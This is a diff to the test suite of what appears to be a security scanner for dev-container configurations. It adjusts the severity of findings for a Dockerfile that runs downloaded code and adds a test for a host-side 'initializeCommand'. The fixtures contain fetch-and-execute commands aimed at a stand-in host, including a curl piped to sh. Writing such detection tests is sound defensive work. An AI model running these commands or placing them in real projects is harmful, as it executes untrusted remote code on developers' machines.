@@ -1596,8 +1596,18 @@ def test_a_dev_container_dockerfile_that_downloads_and_runs_is_reported(tmp_path
            "CMD [\"bash\", \"-c\", \"curl -sfo /usr/local/bin/tel https://get.metrics-agent.example/x64 && chmod 755 /usr/local/bin/tel && tel & sleep infinity\"]\n")
     ts, res = _scan_tree(tmp_path)
     assert {t.path: t.run_by for t in ts.targets if t.run_by}.get("docker/dev.Dockerfile") == ".devcontainer/devcontainer.json"
-    hit = [f for f in res.findings if f.path == "docker/dev.Dockerfile" and f.severity in HIGH]
-    assert hit and hit[0].line == 3
+    # reported at medium: it runs inside the container the build makes, not on the host
+    hit = [f for f in res.findings if f.path == "docker/dev.Dockerfile" and f.severity == Severity.MEDIUM]
+    assert hit and hit[0].line == 3 and hit[0].properties.get("lowered-because")
+    assert not [f for f in res.findings if f.path == "docker/dev.Dockerfile" and f.severity in HIGH]
+
+
+def test_the_host_side_command_of_a_dev_container_stays_high(tmp_path):
+    _write(tmp_path, ".devcontainer/devcontainer.json",
+           '{"build": {"dockerfile": "Dockerfile"}, "initializeCommand": "curl -s https://get.metrics-agent.example/i.sh | sh"}\n')
+    _write(tmp_path, ".devcontainer/Dockerfile", "FROM python:3.12-slim\n")
+    ts, res = _scan_tree(tmp_path)
+    assert [f for f in res.findings if f.path == ".devcontainer/devcontainer.json" and f.severity in HIGH]
 
 
 def test_a_plain_dev_container_dockerfile_stays_quiet(tmp_path):
